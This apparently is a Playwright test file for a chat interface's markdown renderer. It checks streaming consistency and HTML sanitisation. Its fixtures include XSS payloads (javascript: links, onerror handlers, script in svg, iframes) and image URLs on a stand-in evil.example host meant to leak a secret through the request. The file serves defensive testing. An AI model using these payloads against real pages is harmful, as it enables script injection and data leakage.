@@ -1,0 +1,158 @@
+"""Text to HTML in the real page: one path, sanitised, the same however it arrives."""
+
+from __future__ import annotations
+
+import random
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from playwright.sync_api import Page
+
+from e2e.chat_page import GUIDE, ChatPage, Way
+
+NATIVE = """async (call) => {
+  const manifest = await (await fetch("/static/runtime/manifest.json")).json();
+  const { markup } = await import("/static/" + manifest.native);
+  const [name, ...args] = call;
+  const make = () => document.createElement("div");
+  if (name === "branch") return markup.branch;
+  if (name === "html") return markup.html(args[0]);
+  if (name === "stream") {
+    const [text, cuts] = args;
+    const whole = make(), grown = make();
+    markup.render(whole, text);
+    const stream = markup.stream(grown);
+    for (const cut of cuts) stream.write(text.slice(0, cut));
+    stream.end(text);
+    return [whole.innerHTML, grown.innerHTML];
+  }
+  // "kept": nodes of closed blocks are the same objects after the rest has arrived.
+  const [text, more] = args;
+  const host = make();
+  document.querySelector("#chatContainer").append(host);
+  const stream = markup.stream(host);
+  stream.write(text);
+  const first = host.firstElementChild;
+  if (first.localName === "details") first.open = true;
+  getSelection().selectAllChildren(first);
+  const selected = getSelection().toString();
+  stream.write(text + more);
+  stream.end(text + more);
+  const kept = getSelection().toString() === selected;
+  return [host.firstElementChild === first, first.open ?? null, kept];
+}"""
+
+TEXTS = {
+    "everything": "# Title\n\nA paragraph with **bold** and `code`.\n\n- a\n- b\n\n  more b\n\n"
+    "1. x\n2. y\n\n```py\nprint(1)\n\nprint(2)\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
+    "> quote\n> more\n\nend\n---\nafter",
+    "raw html": "<details>\n<summary>S</summary>\n\nhidden **text**\n\n</details>\n\nafter\n\n"
+    "Setext\n===\n\npara\n- list\n-\n\n- x\n\n\n- y\n\n    indented\n\ntext",
+    "late reference": "para:\n```js\nlet a = `x`;\n\n\nfoo\n```\ntail *x*\n\n* * *\n\n"
+    "- [ ] todo\n- [x] done\n\n[ref] and later\n\n[ref]: https://example.com\n\nlast",
+    "nested": "a\nb\n-\n\n1. one\n\n   two\n\n   ```\n   code\n   ```\n2. next\n\n+ other\n\n"
+    "\ttab code\n\n~~~\nunclosed",
+    "unclosed": "| a |\n|---|\n| <b>x |\n\nnext **unclosed\n\n**closed** <b>bold\n\nnot bold\n",
+    "scripts of the world": "日本語の**太字**。\n\nعربي `code`\n\n👩‍👩‍👧 family\n\n- привет\n",
+}
+
+
+@pytest.fixture(params=["auto", "dompurify"])
+def sanitizer(request: pytest.FixtureRequest) -> str:
+    return request.param
+
+
+@pytest.fixture
+def run(sanitizer: str, page: Page, open_way: Callable[[Way], ChatPage]) -> Callable[..., Any]:
+    """Call the native module of a running page; both sanitisers are tested in Chromium."""
+    page.add_init_script(f"window.CHAT_PY = {{sanitizer: '{sanitizer}'}}")
+    open_way(GUIDE).open()
+    return lambda *call: page.evaluate(NATIVE, list(call))
+
+
+def test_both_sanitisers_are_tested(run: Callable[..., Any], sanitizer: str) -> None:
+    assert run("branch") == ("setHTML" if sanitizer == "auto" else "dompurify")
+
+
+def test_a_text_that_grows_ends_as_the_whole_text(run: Callable[..., Any]) -> None:
+    for name, text in TEXTS.items():
+        for seed in range(12):
+            cut = random.Random(seed)
+            cuts = list(range(1, len(text)))
+            if seed:
+                cuts = sorted(cut.sample(cuts, cut.randint(1, 30)))
+            whole, grown = run("stream", text, cuts)
+            assert grown == whole, (name, seed)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "A first paragraph to select.\n\nThe second one",
+        "<details>\n<summary>More</summary>\n\nhidden text\n\n</details>\n\nThe second one",
+    ],
+)
+def test_what_is_closed_is_not_touched(run: Callable[..., Any], text: str) -> None:
+    same, is_open, selection_kept = run("kept", text, " goes on\n\nand on\n\n- and\n- on\n\nend")
+    assert same
+    assert is_open in (None, True)
+    assert selection_kept
+
+
+@pytest.mark.parametrize(
+    ("text", "has", "has_not"),
+    [
+        ("[x](javascript:alert(1))", ["x"], ["href", "javascript"]),
+        ("<a href='vbscript:x'>t</a>", ["t"], ["href"]),
+        ("[mail](mailto:a@b.example)", ['href="mailto:', "noopener noreferrer nofollow"], []),
+        ("![chart](https://evil.example/a.png?secret)", ["evil.example", "<button"], ["<img"]),
+        ("![own](/static/icon.svg)", ["<img", 'loading="lazy"'], ["<button"]),
+        ("<img src=x onerror=alert(1)>", ["<img"], ["onerror"]),
+        ("<img src='data:text/html,x' alt=a>", ["a"], ["<img", "data:"]),
+        ("[bank.example](https://evil.example/)", ["(evil.example)"], []),
+        ("[bank.example](https://bank.example/)", ["bank.example"], ["(bank.example)"]),
+        ("<a href='https://xn--pple-43d.com'>apple</a>", ["(xn--pple-43d.com)"], []),
+        ("pay \u202eevil", ["U+202E"], ["\u202e"]),
+        (
+            "<p style='top:0' data-message-action=delete id=a name=b class=cp-notice>t</p>",
+            ["t"],
+            ["style", "data-", "id=", "name=", "class="],
+        ),
+        (
+            "<form action=/x><input name=q><button>go</button></form>",
+            [],
+            ["<form", "<input", "<button"],
+        ),
+        ("<svg><script>alert(1)</script></svg><math><mi>x", [], ["<svg", "<script", "<math"]),
+        (
+            "<iframe src=https://evil.example></iframe><object></object><embed>",
+            [],
+            ["<iframe", "<object", "<embed"],
+        ),
+        ("`code`{class}\n\n```py onload=x\ncode\n```", ['class="language-py"'], ["onload"]),
+    ],
+)
+def test_what_a_message_may_hold(
+    run: Callable[..., Any], text: str, has: list[str], has_not: list[str]
+) -> None:
+    html = run("html", text)
+    for part in has:
+        assert part in html
+    for part in has_not:
+        assert part not in html
+
+
+def test_nothing_is_loaded_before_a_click(run: Callable[..., Any], page: Page, watch: Any) -> None:
+    """A picture of another origin leaks that a message was read, and whatever is in its address."""
+    before = len(watch.requests)
+    run(
+        "html",
+        "![a](https://evil.example/1.png) <img src=https://evil.example/2.png"
+        " srcset='https://evil.example/3.png 2x'>"
+        "<video src=https://evil.example/4.mp4 poster=https://evil.example/5.png></video>"
+        "<link rel=stylesheet href=https://evil.example/6.css>"
+        "<style>@import 'https://evil.example/7.css'</style>",
+    )
+    page.evaluate("() => new Promise(requestAnimationFrame)")
+    assert [url for url in watch.requests[before:] if "evil" in url] == []
